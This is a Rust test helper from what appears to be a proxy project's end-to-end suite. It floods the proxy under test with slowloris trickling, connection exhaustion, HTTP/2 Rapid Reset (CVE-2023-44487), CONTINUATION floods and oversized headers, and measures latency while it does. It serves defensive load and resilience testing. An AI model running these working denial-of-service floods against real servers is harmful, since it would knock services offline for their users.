//! `sluice-flood MODE --key value …`: the flooding (and the measuring) agent of
//! `tests/tests/proxy_flood.rs`, run inside a sandbox by `sluice run`, so every connection it
//! opens goes through the kernel redirect to the proxy like any agent's.
//!
//! Modes (all bounded: `--secs` caps the run, and the run also ends when standard input closes):
//! * `conns --addr A --count N`: holds N TCP connections open, re-opening any the proxy closes;
//! * `slow-headers --addr A --sni S --host H --count N --gap-ms G`: N HTTP/1.1 requests whose
//!   head is trickled one byte every G ms (slowloris);
//! * `slow-body … --path P`: N requests with a full head and `Content-Length: 1000000`, the body
//!   trickled one byte every G ms;
//! * `h2-idle … --count N [--partial 1]`: N HTTP/2 connections that send the preface (and with
//!   `--partial 1` a HEADERS frame without END_HEADERS), then nothing;
//! * `rapid-reset --addr A --sni S --host H --count C --streams N`: C HTTP/2 connections sending
//!   HEADERS then RST_STREAM(CANCEL) at once, N streams in all (CVE-2023-44487);
//! * `continuation … --count C [--fill 1]`: C HTTP/2 connections, each one HEADERS without
//!   END_HEADERS followed by CONTINUATION frames without end (empty, or full with `--fill 1`);
//! * `big-headers-h1` / `big-headers-h2 … --count C --bytes B`: C connections at a time, each a
//!   request with B bytes of headers, over and over;
//! * `probe --addr A --sni S --host H --count N --gap-ms G`: the quiet agent: N requests, each
//!   on a new TLS connection, `GET /hello`; reports p50/p99 latency.
//!
//! Flood modes print `ready` once the flood is at full strength, then one JSON line when done.

use serde_json::{json, Value};
use sluice_e2e::flood::{self, Seen};
use std::collections::{BTreeMap, HashMap};
use std::net::SocketAddr;
use std::path::PathBuf;
use std::process::ExitCode;
use std::sync::atomic::{AtomicU64, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::sync::{watch, Semaphore};

const USAGE: &str = "usage: sluice-flood conns|slow-headers|slow-body|h2-idle|rapid-reset|continuation|big-headers-h1|big-headers-h2|probe --addr IP:PORT [--sni NAME --host NAME:PORT --count N --secs S ...]";
const CONNECT_TIMEOUT: Duration = Duration::from_secs(10);

type Stop = watch::Receiver<bool>;

struct Opts {
    map: HashMap<String, String>,
    tls: Option<(Arc<rustls::ClientConfig>, Arc<rustls::ClientConfig>)>,
}

impl Opts {
    fn parse(args: &[String]) -> Result<Opts, String> {
        let mut map = HashMap::new();
        let mut it = args.iter();
        while let Some(flag) = it.next() {
            let key = flag.strip_prefix("--").ok_or_else(|| format!("unexpected argument {flag:?}"))?;
            let value = it.next().ok_or_else(|| format!("{flag} needs a value"))?;
            map.insert(key.to_string(), value.clone());
        }
        Ok(Opts { map, tls: None })
    }

    fn str(&self, key: &str) -> Result<&str, String> {
        self.map.get(key).map(String::as_str).ok_or_else(|| format!("--{key} is required"))
    }

    fn num<T: std::str::FromStr>(&self, key: &str, default: T) -> Result<T, String> {
        match self.map.get(key) {
            None => Ok(default),
            Some(v) => v.parse().map_err(|_| format!("--{key} {v:?} is not a number")),
        }
    }

    fn addr(&self) -> Result<SocketAddr, String> {
        let a = self.str("addr")?;
        a.parse().map_err(|e| format!("--addr {a:?}: {e}"))
    }

    /// `(h1, h2)` client configurations trusting `SSL_CERT_FILE` (set by `sluice run`).
    fn load_tls(&mut self) -> Result<(), String> {
        let bundle = std::env::var_os("SSL_CERT_FILE")
            .map(PathBuf::from)
            .ok_or("SSL_CERT_FILE is not set: run under `sluice run`, which points it at the sluice CA bundle")?;
        let h1 = flood::client_config(&bundle, &[b"http/1.1"])?;
        let h2 = flood::client_config(&bundle, &[b"h2"])?;
        self.tls = Some((h1, h2));
        Ok(())
    }

    async fn connect(&self, h2: bool) -> std::io::Result<tokio_rustls::client::TlsStream<TcpStream>> {
        let bad = |e: String| std::io::Error::new(std::io::ErrorKind::InvalidInput, e);
        let addr = self.addr().map_err(bad)?;
        let sni = self.str("sni").map_err(bad)?;
        let (h1c, h2c) = self.tls.as_ref().ok_or_else(|| bad("TLS not configured".into()))?;
        let config = if h2 { h2c.clone() } else { h1c.clone() };
        let tcp = tokio::time::timeout(CONNECT_TIMEOUT, TcpStream::connect(addr)).await??;
        tcp.set_nodelay(true)?;
        let name = rustls::pki_types::ServerName::try_from(sni.to_string()).map_err(|e| bad(e.to_string()))?;
        let tls = tokio::time::timeout(CONNECT_TIMEOUT, tokio_rustls::TlsConnector::from(config).connect(name, tcp))
            .await??;
        if h2 && tls.get_ref().1.alpn_protocol() != Some(b"h2") {
            return Err(bad("the proxy did not choose h2".into()));
        }
        Ok(tls)
    }
}

async fn stopped(stop: &mut Stop) {
    let _ = stop.wait_for(|s| *s).await;
}

/// The soft file limit raised to the hard one (10,000 connections need more than 1,024).
fn raise_nofile() -> u64 {
    let mut lim = libc::rlimit { rlim_cur: 0, rlim_max: 0 };
    // SAFETY: getrlimit/setrlimit with a valid pointer to a local.
    unsafe {
        if libc::getrlimit(libc::RLIMIT_NOFILE, &mut lim) == 0 {
            lim.rlim_cur = lim.rlim_max;
            libc::setrlimit(libc::RLIMIT_NOFILE, &lim);
            libc::getrlimit(libc::RLIMIT_NOFILE, &mut lim);
        }
    }
    lim.rlim_cur
}

fn ms(d: Duration) -> u64 {
    u64::try_from(d.as_millis()).unwrap_or(u64::MAX)
}

#[derive(Default)]
struct Counters {
    held: AtomicUsize,
    opened: AtomicU64,
    closed_by_peer: AtomicU64,
    connect_errors: AtomicU64,
    first_round: AtomicUsize,
}

/// `conns`: N idle TCP connections, each re-opened (after 20 ms) when the proxy closes it.
async fn conns(o: Opts, mut stop: Stop) -> Result<Value, String> {
    let addr = o.addr()?;
    let count: usize = o.num("count", 1000)?;
    let nofile = raise_nofile();
    let c = Arc::new(Counters::default());
    let connecting = Arc::new(Semaphore::new(256));
    let mut tasks = tokio::task::JoinSet::new();
    for _ in 0..count {
        let (c, connecting, mut stop) = (c.clone(), connecting.clone(), stop.clone());
        tasks.spawn(async move {
            let mut first = true;
            while !*stop.borrow() {
                let Ok(permit) = connecting.acquire().await else { return };
                let attempt = tokio::select! {
                    r = tokio::time::timeout(CONNECT_TIMEOUT, TcpStream::connect(addr)) => r,
                    _ = stopped(&mut stop) => return,
                };
                drop(permit);
                if std::mem::take(&mut first) {
                    c.first_round.fetch_add(1, Ordering::Relaxed);
                }
                match attempt {
                    Ok(Ok(mut s)) => {
                        c.opened.fetch_add(1, Ordering::Relaxed);
                        c.held.fetch_add(1, Ordering::Relaxed);
                        let mut b = [0u8; 1];
                        let closed = tokio::select! {
                            _ = s.read(&mut b) => true,
                            _ = stopped(&mut stop) => false,
                        };
                        c.held.fetch_sub(1, Ordering::Relaxed);
                        if !closed {
                            return;
                        }
                        c.closed_by_peer.fetch_add(1, Ordering::Relaxed);
                        tokio::time::sleep(Duration::from_millis(20)).await;
                    }
                    _ => {
                        c.connect_errors.fetch_add(1, Ordering::Relaxed);
                        tokio::time::sleep(Duration::from_millis(50)).await;
                    }
                }
            }
        });
    }
    let start = Instant::now();
    let (mut peak, mut ready_after) = (0usize, None);
    let mut tick = tokio::time::interval(Duration::from_millis(20));
    loop {
        tokio::select! {
            _ = tick.tick() => {}
            _ = stopped(&mut stop) => break,
        }
        peak = peak.max(c.held.load(Ordering::Relaxed));
        if ready_after.is_none() && c.first_round.load(Ordering::Relaxed) >= count {
            ready_after = Some(start.elapsed());
            println!("ready");
        }
    }
    let _ = tokio::time::timeout(Duration::from_secs(10), async { while tasks.join_next().await.is_some() {} }).await;
    Ok(json!({
        "mode": "conns",
        "target": count,
        "nofile": nofile,
        "peak_held": peak,
        "opened": c.opened.load(Ordering::Relaxed),
        "closed_by_peer": c.closed_by_peer.load(Ordering::Relaxed),
        "connect_errors": c.connect_errors.load(Ordering::Relaxed),
        "all_tried_ms": ready_after.map(ms),
    }))
}

/// What one trickling connection saw.
struct Trickled {
    lifetime: Duration,
    closed_by_proxy: bool,
    sent: u64,
    status: Option<String>,
}

/// Writes `head`, then one byte of `drip` every `gap` until the proxy closes the connection or
/// the run stops; reads the whole time.
async fn trickle<S>(stream: S, head: Vec<u8>, drip: u8, gap: Duration, mut stop: Stop) -> Trickled
where
    S: AsyncRead + AsyncWrite + Unpin,
{
    let start = Instant::now();
    let (mut r, mut w) = tokio::io::split(stream);
    let reader = async {
        let mut got = Vec::new();
        let mut buf = [0u8; 4096];
        while let Ok(n) = r.read(&mut buf).await {
            if n == 0 {
                break;
            }
            if got.len() < 256 {
                got.extend_from_slice(&buf[..n]);
            }
        }
        got
    };
    let mut sent = 0u64;
    let writer = async {
        if w.write_all(&head).await.is_err() {
            return;
        }
        loop {
            tokio::time::sleep(gap).await;
            if w.write_all(&[drip]).await.is_err() || w.flush().await.is_err() {
                return;
            }
            sent += 1;
        }
    };
    let (closed_by_proxy, got) = tokio::select! {
        got = reader => (true, got),
        _ = writer => (true, Vec::new()),
        _ = stopped(&mut stop) => (false, Vec::new()),
    };
    let status = String::from_utf8_lossy(&got).lines().next().filter(|l| !l.is_empty()).map(str::to_string);
    Trickled { lifetime: start.elapsed(), closed_by_proxy, sent, status }
}

/// `h2-idle`: HTTP/2 connections that send the preface and SETTINGS (and with `--partial 1` a
/// HEADERS frame without END_HEADERS), then nothing; each waits until the proxy closes it.
async fn h2_idle(
    stream: tokio_rustls::client::TlsStream<TcpStream>,
    partial: Option<Vec<u8>>,
    mut stop: Stop,
) -> Trickled {
    let start = Instant::now();
    let (mut r, mut w) = tokio::io::split(stream);
    let mut opening = flood::client_opening();
    if let Some(block) = partial {
        opening.extend(flood::frame(flood::HEADERS, flood::END_STREAM, 1, &block));
    }
    if w.write_all(&opening).await.is_err() {
        return Trickled {
            lifetime: start.elapsed(),
            closed_by_proxy: true,
            sent: 0,
            status: Some("write failed".into()),
        };
    }
    let mut seen = Seen::default();
    let reader = async {
        let (mut buf, mut chunk) = (Vec::new(), vec![0u8; 16384]);
        while let Ok(n) = r.read(&mut chunk).await {
            if n == 0 {
                break;
            }
            buf.extend_from_slice(&chunk[..n]);
            flood::read_frames(&mut buf, &mut seen);
        }
    };
    let closed_by_proxy = tokio::select! {
        _ = reader => true,
        _ = stopped(&mut stop) => false,
    };
    let status = seen.goaway.map(|(code, _, _)| format!("GOAWAY {}", flood::error_name(code)));
    Trickled { lifetime: start.elapsed(), closed_by_proxy, sent: 0, status }
}

/// `slow-headers` / `slow-body` / `h2-idle`.
async fn slow(o: Opts, stop: Stop, mode: &'static str) -> Result<Value, String> {
    let count: usize = o.num("count", 100)?;
    let gap = Duration::from_millis(o.num("gap-ms", 200)?);
    let host = o.str("host")?.to_string();
    let path = o.str("path").unwrap_or("/slow").to_string();
    let head = match mode {
        "slow-body" => format!("POST {path} HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/octet-stream\r\nContent-Length: 1000000\r\n\r\n"),
        _ => format!("GET {path} HTTP/1.1\r\nHost: {host}\r\nX-Trickle: "),
    };
    let partial = (o.num::<u8>("partial", 0)? == 1).then(|| flood::request_block("GET", &host, &path));
    let o = Arc::new(o);
    let connected = Arc::new(AtomicUsize::new(0));
    let mut tasks = tokio::task::JoinSet::new();
    for _ in 0..count {
        let (o, stop, head, connected, partial) =
            (o.clone(), stop.clone(), head.clone(), connected.clone(), partial.clone());
        tasks.spawn(async move {
            let h2 = mode == "h2-idle";
            let r = o.connect(h2).await;
            connected.fetch_add(1, Ordering::Relaxed);
            match r {
                Ok(tls) if h2 => Ok(h2_idle(tls, partial, stop).await),
                Ok(tls) => Ok(trickle(tls, head.into_bytes(), b'a', gap, stop).await),
                Err(e) => Err(e.to_string()),
            }
        });
    }
    while connected.load(Ordering::Relaxed) < count {
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    println!("ready");
    let (mut lifetimes, mut errors, mut statuses) = (Vec::new(), Vec::new(), BTreeMap::<String, u64>::new());
    let (mut closed, mut sent) = (0u64, 0u64);
    while let Some(r) = tasks.join_next().await {
        match r {
            Ok(Ok(t)) => {
                lifetimes.push(ms(t.lifetime));
                closed += u64::from(t.closed_by_proxy);
                sent += t.sent;
                *statuses.entry(t.status.unwrap_or_else(|| "(none)".into())).or_default() += 1;
            }
            Ok(Err(e)) => errors.push(e),
            Err(e) => errors.push(e.to_string()),
        }
    }
    lifetimes.sort_unstable();
    Ok(json!({
        "mode": mode,
        "connections": lifetimes.len(),
        "closed_by_proxy": closed,
        "bytes_trickled": sent,
        "lifetime_ms_p50": flood::percentile(&lifetimes, 50),
        "lifetime_ms_max": lifetimes.last().copied().unwrap_or(0),
        "first_lines": statuses,
        "errors": errors.iter().take(5).collect::<Vec<_>>(),
        "error_count": errors.len(),
    }))
}

/// Frames for [`h2_conn`] to write, and what they hold.
struct Batch {
    bytes: Vec<u8>,
    streams: u64,
    frames: u64,
    /// The bytes continue a header block: no SETTINGS or PING acknowledgement may go first.
    inside_header_block: bool,
}

/// Shared report of the HTTP/2 floods.
#[derive(Default)]
struct H2Report {
    connections: u64,
    streams: u64,
    frames: u64,
    max_frames_one_connection: u64,
    responses: u64,
    rst_streams: u64,
    goaways: BTreeMap<String, u64>,
    closed_without_goaway: u64,
    errors: Vec<String>,
}

impl H2Report {
    fn json(&self, mode: &str) -> Value {
        json!({
            "mode": mode,
            "connections": self.connections,
            "streams": self.streams,
            "frames": self.frames,
            "max_frames_one_connection": self.max_frames_one_connection,
            "responses": self.responses,
            "rst_streams": self.rst_streams,
            "goaways": self.goaways,
            "closed_without_goaway": self.closed_without_goaway,
            "errors": self.errors.iter().take(5).collect::<Vec<_>>(),
            "error_count": self.errors.len(),
        })
    }
}

/// Runs one HTTP/2 connection: the opening, then `next_batch` (frames to write, and how many
/// streams / frames they hold) until it returns `None`, the server closes, or the run stops.
/// Settings and pings are acknowledged as they come. Returns what the server sent and the
/// frames written.
async fn h2_conn<F>(o: &Opts, stop: &mut Stop, mut next_batch: F) -> Result<(Seen, u64, u64, bool), String>
where
    F: FnMut() -> Option<Batch>,
{
    let tls = o.connect(true).await.map_err(|e| e.to_string())?;
    let (mut r, mut w) = tokio::io::split(tls);
    let seen = Arc::new(Mutex::new(Seen::default()));
    let reader = {
        let seen = seen.clone();
        async move {
            let (mut buf, mut chunk) = (Vec::new(), vec![0u8; 65536]);
            while let Ok(n) = r.read(&mut chunk).await {
                if n == 0 {
                    break;
                }
                buf.extend_from_slice(&chunk[..n]);
                let mut s = seen.lock().unwrap_or_else(|e| e.into_inner());
                flood::read_frames(&mut buf, &mut s);
                if buf.len() > 1 << 20 {
                    buf.clear(); // never happens with a sane server; bounds the client anyway
                }
            }
        }
    };
    let (mut streams, mut frames) = (0u64, 0u64);
    let writer = async {
        if w.write_all(&flood::client_opening()).await.is_err() {
            return;
        }
        let mut acked = (0u64, 0usize);
        while let Some(batch) = next_batch() {
            let mut out = Vec::new();
            {
                let seen = seen.lock().unwrap_or_else(|e| e.into_inner());
                if seen.goaway.is_some() {
                    return;
                }
                // No frame may come between the frames of one header block.
                if !batch.inside_header_block {
                    for _ in acked.0..seen.settings_to_ack {
                        out.extend(flood::frame(flood::SETTINGS, flood::ACK, 0, &[]));
                    }
                    for p in seen.pings.iter().skip(acked.1) {
                        out.extend(flood::frame(flood::PING, flood::ACK, 0, p));
                    }
                    acked = (seen.settings_to_ack, seen.pings.len());
                }
            }
            out.extend(batch.bytes);
            if w.write_all(&out).await.is_err() {
                return;
            }
            streams += batch.streams;
            frames += batch.frames;
            tokio::task::yield_now().await;
        }
        // Nothing more to send: wait until the server answered (a response or a reset) or
        // closed.
        loop {
            tokio::time::sleep(Duration::from_millis(10)).await;
            let seen = seen.lock().unwrap_or_else(|e| e.into_inner());
            if seen.headers > 0 || seen.rst_streams > 0 || seen.goaway.is_some() {
                return;
            }
        }
    };
    tokio::pin!(reader);
    let closed_by_server = tokio::select! {
        _ = &mut reader => true,
        _ = writer => {
            // A write failed (the server closed): its GOAWAY may still be unread.
            let _ = tokio::time::timeout(Duration::from_secs(1), &mut reader).await;
            true
        }
        _ = stopped(stop) => false,
    };
    let seen = seen.lock().unwrap_or_else(|e| e.into_inner()).clone();
    Ok((seen, streams, frames, closed_by_server))
}

fn add(report: &mut H2Report, r: Result<(Seen, u64, u64, bool), String>) {
    match r {
        Ok((seen, streams, frames, closed)) => {
            report.connections += 1;
            report.streams += streams;
            report.frames += frames;
            report.max_frames_one_connection = report.max_frames_one_connection.max(frames);
            report.responses += seen.headers;
            report.rst_streams += seen.rst_streams;
            match seen.goaway {
                Some((code, _, debug)) => {
                    let key = if debug.is_empty() {
                        flood::error_name(code)
                    } else {
                        format!("{} ({debug})", flood::error_name(code))
                    };
                    *report.goaways.entry(key).or_default() += 1;
                }
                None if closed && seen.headers == 0 && seen.rst_streams == 0 => report.closed_without_goaway += 1,
                None => {}
            }
        }
        Err(e) => report.errors.push(e),
    }
}

/// Runs `per_conn` on `count` connections in parallel, each in a loop (a new connection when the
/// server closes one) until the run stops; prints `ready` when the first batch of connections
/// is up.
async fn h2_flood<F, Fut>(o: Opts, stop: Stop, mode: &'static str, per_conn: F) -> Result<Value, String>
where
    F: Fn(Arc<Opts>, Stop, Arc<AtomicU64>) -> Fut + Send + Sync + 'static,
    Fut: std::future::Future<Output = Option<Result<(Seen, u64, u64, bool), String>>> + Send + 'static,
{
    let count: usize = o.num("count", 4)?;
    let o = Arc::new(o);
    let report = Arc::new(Mutex::new(H2Report::default()));
    let started = Arc::new(AtomicU64::new(0));
    let per_conn = Arc::new(per_conn);
    let mut tasks = tokio::task::JoinSet::new();
    for _ in 0..count {
        let (o, stop, report, started, per_conn) =
            (o.clone(), stop.clone(), report.clone(), started.clone(), per_conn.clone());
        tasks.spawn(async move {
            while !*stop.borrow() {
                let Some(r) = per_conn(o.clone(), stop.clone(), started.clone()).await else { break };
                let failed = r.is_err();
                add(&mut report.lock().unwrap_or_else(|e| e.into_inner()), r);
                if failed {
                    tokio::time::sleep(Duration::from_millis(50)).await;
                }
            }
        });
    }
    let deadline = Instant::now() + CONNECT_TIMEOUT;
    while started.load(Ordering::Relaxed) < count as u64 && Instant::now() < deadline {
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    println!("ready");
    while tasks.join_next().await.is_some() {}
    let r = report.lock().unwrap_or_else(|e| e.into_inner());
    Ok(r.json(mode))
}

/// `rapid-reset`: HEADERS + RST_STREAM(CANCEL) pairs, 50 per write, `--streams` in all.
async fn rapid_reset(o: Opts, stop: Stop) -> Result<Value, String> {
    let total: u64 = o.num("streams", 20_000)?;
    let block = flood::request_block("GET", o.str("host")?, "/rapid-reset");
    let budget = Arc::new(AtomicU64::new(total));
    let block = Arc::new(block);
    h2_flood(o, stop, "rapid-reset", move |o, mut stop, started| {
        let (budget, block) = (budget.clone(), block.clone());
        async move {
            if budget.load(Ordering::Relaxed) == 0 {
                return None;
            }
            let mut id = 1u32;
            let r = h2_conn(&o, &mut stop, || {
                started.fetch_add(u64::from(id == 1), Ordering::Relaxed);
                let n = budget.fetch_update(Ordering::Relaxed, Ordering::Relaxed, |b| Some(b.saturating_sub(50)));
                let n = n.unwrap_or(0).min(50);
                if n == 0 || id > 0x7fff_0000 {
                    return None;
                }
                let mut out = Vec::new();
                for _ in 0..n {
                    out.extend(flood::frame(flood::HEADERS, flood::END_HEADERS | flood::END_STREAM, id, &block));
                    out.extend(flood::frame(flood::RST_STREAM, 0, id, &flood::CANCEL.to_be_bytes()));
                    id += 2;
                }
                Some(Batch { bytes: out, streams: n, frames: n * 2, inside_header_block: false })
            })
            .await;
            Some(r)
        }
    })
    .await
}

/// `continuation`: one HEADERS without END_HEADERS, then CONTINUATION frames without end.
async fn continuation(o: Opts, stop: Stop) -> Result<Value, String> {
    let fill = o.num::<u8>("fill", 0)? == 1;
    let block = Arc::new(flood::request_block("GET", o.str("host")?, "/continuation"));
    let payload = if fill {
        // One complete literal header per frame: ~16 KiB of header list each.
        let mut p = Vec::new();
        flood::hpack_literal(&mut p, "x-flood", &vec![b'a'; flood::MAX_FRAME - 20]);
        p
    } else {
        Vec::new()
    };
    let frames16: Arc<Vec<u8>> =
        Arc::new((0..16).flat_map(|_| flood::frame(flood::CONTINUATION, 0, 1, &payload)).collect());
    let mode = if fill { "continuation-full" } else { "continuation-empty" };
    h2_flood(o, stop, mode, move |o, mut stop, started| {
        let (block, frames16) = (block.clone(), frames16.clone());
        async move {
            let mut first = true;
            let r = h2_conn(&o, &mut stop, || {
                if std::mem::take(&mut first) {
                    started.fetch_add(1, Ordering::Relaxed);
                    let bytes = flood::frame(flood::HEADERS, flood::END_STREAM, 1, &block);
                    return Some(Batch { bytes, streams: 1, frames: 1, inside_header_block: false });
                }
                Some(Batch { bytes: frames16.to_vec(), streams: 0, frames: 16, inside_header_block: true })
            })
            .await;
            Some(r)
        }
    })
    .await
}

/// `big-headers-h2`: one request whose header block is `--bytes` long (HEADERS + CONTINUATION,
/// END_HEADERS at the end), per connection, over and over.
async fn big_headers_h2(o: Opts, stop: Stop) -> Result<Value, String> {
    let bytes: usize = o.num("bytes", 1 << 20)?;
    let mut block = flood::request_block("GET", o.str("host")?, "/big-headers");
    let mut i = 0;
    while block.len() < bytes {
        flood::hpack_literal(&mut block, &format!("x-big-{i}"), &[b'a'; 1000]);
        i += 1;
    }
    let frames = Arc::new(flood::header_frames(1, &block, true));
    h2_flood(o, stop, "big-headers-h2", move |o, mut stop, started| {
        let frames = frames.clone();
        async move {
            let mut first = true;
            let r = h2_conn(&o, &mut stop, || {
                if !std::mem::take(&mut first) {
                    return None;
                }
                started.fetch_add(1, Ordering::Relaxed);
                let n = frames.len().div_ceil(flood::MAX_FRAME + 9) as u64;
                Some(Batch { bytes: frames.to_vec(), streams: 1, frames: n, inside_header_block: false })
            })
            .await;
            Some(r)
        }
    })
    .await
}

/// `big-headers-h1`: `--count` connections at a time, each one request with `--bytes` of
/// headers, over and over; reports the status lines the proxy answered.
async fn big_headers_h1(o: Opts, stop: Stop) -> Result<Value, String> {
    let count: usize = o.num("count", 8)?;
    let bytes: usize = o.num("bytes", 1 << 20)?;
    let mut head = format!("GET /big-headers HTTP/1.1\r\nHost: {}\r\n", o.str("host")?).into_bytes();
    let mut i = 0;
    while head.len() < bytes {
        head.extend_from_slice(format!("X-Big-{i}: {}\r\n", "a".repeat(1000)).as_bytes());
        i += 1;
    }
    head.extend_from_slice(b"\r\n");
    let head = Arc::new(head);
    let o = Arc::new(o);
    let results = Arc::new(Mutex::new((BTreeMap::<String, u64>::new(), Vec::<u64>::new(), Vec::<String>::new())));
    let started = Arc::new(AtomicUsize::new(0));
    let mut tasks = tokio::task::JoinSet::new();
    for _ in 0..count {
        let (o, mut stop, head, results, started) =
            (o.clone(), stop.clone(), head.clone(), results.clone(), started.clone());
        tasks.spawn(async move {
            let mut first = true;
            while !*stop.borrow() {
                let tls = match o.connect(false).await {
                    Ok(t) => t,
                    Err(e) => {
                        results.lock().unwrap_or_else(|e| e.into_inner()).2.push(e.to_string());
                        tokio::time::sleep(Duration::from_millis(50)).await;
                        continue;
                    }
                };
                if std::mem::take(&mut first) {
                    started.fetch_add(1, Ordering::Relaxed);
                }
                let (mut r, mut w) = tokio::io::split(tls);
                let mut written = 0u64;
                let writer = async {
                    for chunk in head.chunks(16 * 1024) {
                        if w.write_all(chunk).await.is_err() {
                            break;
                        }
                        written += chunk.len() as u64;
                    }
                    std::future::pending::<()>().await;
                };
                let reader = async {
                    let (mut got, mut buf) = (Vec::new(), [0u8; 4096]);
                    while let Ok(n) = r.read(&mut buf).await {
                        if n == 0 {
                            break;
                        }
                        if got.len() < 4096 {
                            got.extend_from_slice(&buf[..n]);
                        }
                    }
                    got
                };
                let got = tokio::select! {
                    got = reader => got,
                    _ = writer => Vec::new(),
                    _ = stopped(&mut stop) => return,
                };
                let line = String::from_utf8_lossy(&got).lines().next().unwrap_or("(closed, no answer)").to_string();
                let mut res = results.lock().unwrap_or_else(|e| e.into_inner());
                *res.0.entry(line).or_default() += 1;
                res.1.push(written);
            }
        });
    }
    let deadline = Instant::now() + CONNECT_TIMEOUT;
    while started.load(Ordering::Relaxed) < count && Instant::now() < deadline {
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    println!("ready");
    while tasks.join_next().await.is_some() {}
    let res = results.lock().unwrap_or_else(|e| e.into_inner());
    let requests = res.1.len();
    Ok(json!({
        "mode": "big-headers-h1",
        "head_bytes": head.len(),
        "requests": requests,
        "max_bytes_written_before_answer": res.1.iter().max().copied().unwrap_or(0),
        "answers": res.0,
        "errors": res.2.iter().take(5).collect::<Vec<_>>(),
        "error_count": res.2.len(),
    }))
}

/// `probe`: the quiet agent. Each request on a new TLS connection, `Connection: close`.
async fn probe(o: Opts, stop: Stop) -> Result<Value, String> {
    let count: usize = o.num("count", 100)?;
    let gap = Duration::from_millis(o.num("gap-ms", 20)?);
    let host = o.str("host")?.to_string();
    let path = o.str("path").unwrap_or("/hello").to_string();
    let request = format!("GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n");
    let (mut lat, mut errors) = (Vec::with_capacity(count), Vec::new());
    for _ in 0..count {
        if *stop.borrow() {
            errors.push("stopped before all requests were made".to_string());
            break;
        }
        let start = Instant::now();
        let one = async {
            let mut tls = o.connect(false).await.map_err(|e| format!("connect: {e}"))?;
            tls.write_all(request.as_bytes()).await.map_err(|e| format!("write: {e}"))?;
            let mut got = Vec::new();
            tls.read_to_end(&mut got).await.map_err(|e| format!("read: {e}"))?;
            let text = String::from_utf8_lossy(&got);
            let status = text.lines().next().unwrap_or("").to_string();
            if status.starts_with("HTTP/1.1 200") {
                Ok(())
            } else {
                Err(format!("answer: {:?}", text.chars().take(300).collect::<String>()))
            }
        };
        match tokio::time::timeout(Duration::from_secs(10), one).await {
            Ok(Ok(())) => lat.push(u64::try_from(start.elapsed().as_micros()).unwrap_or(u64::MAX)),
            Ok(Err(e)) => errors.push(e),
            Err(_) => errors.push("no answer in 10 s".into()),
        }
        tokio::time::sleep(gap).await;
    }
    lat.sort_unstable();
    Ok(json!({
        "mode": "probe",
        "ok": lat.len(),
        "failed": errors.len(),
        "p50_us": flood::percentile(&lat, 50),
        "p99_us": flood::percentile(&lat, 99),
        "max_us": lat.last().copied().unwrap_or(0),
        "errors": errors.iter().take(5).collect::<Vec<_>>(),
    }))
}

#[tokio::main(flavor = "multi_thread", worker_threads = 2)]
async fn main() -> ExitCode {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let Some((mode, rest)) = args.split_first() else {
        eprintln!("{USAGE}");
        return ExitCode::from(2);
    };
    let mut o = match Opts::parse(rest) {
        Ok(o) => o,
        Err(e) => {
            eprintln!("sluice-flood: {e}\n{USAGE}");
            return ExitCode::from(2);
        }
    };
    if mode != "conns" {
        if let Err(e) = o.load_tls() {
            eprintln!("sluice-flood: {e}");
            return ExitCode::FAILURE;
        }
    }
    let secs: u64 = o.num("secs", 30).unwrap_or(30);
    // Stop when stdin closes (the test is done with us) or after --secs, whichever is first.
    // A plain thread reads stdin: tokio's stdin would keep the runtime from shutting down.
    let (stop_tx, stop) = watch::channel(false);
    let (closed_tx, closed_rx) = tokio::sync::oneshot::channel::<()>();
    std::thread::spawn(move || {
        let mut buf = [0u8; 64];
        while matches!(std::io::Read::read(&mut std::io::stdin(), &mut buf), Ok(n) if n > 0) {}
        let _ = closed_tx.send(());
    });
    tokio::spawn(async move {
        let _ = tokio::time::timeout(Duration::from_secs(secs), closed_rx).await;
        let _ = stop_tx.send(true);
    });
    let result = match mode.as_str() {
        "conns" => conns(o, stop).await,
        "slow-headers" => slow(o, stop, "slow-headers").await,
        "slow-body" => slow(o, stop, "slow-body").await,
        "h2-idle" => slow(o, stop, "h2-idle").await,
        "rapid-reset" => rapid_reset(o, stop).await,
        "continuation" => continuation(o, stop).await,
        "big-headers-h1" => big_headers_h1(o, stop).await,
        "big-headers-h2" => big_headers_h2(o, stop).await,
        "probe" => probe(o, stop).await,
        other => Err(format!("unknown mode {other:?}\n{USAGE}")),
    };
    match result {
        Ok(v) => {
            println!("{v}");
            // Exit now: connections and tasks still open are not waited for.
            let _ = std::io::Write::flush(&mut std::io::stdout());
            std::process::exit(0);
        }
        Err(e) => {
            eprintln!("sluice-flood: {e}");
            ExitCode::FAILURE
        }
    }
}
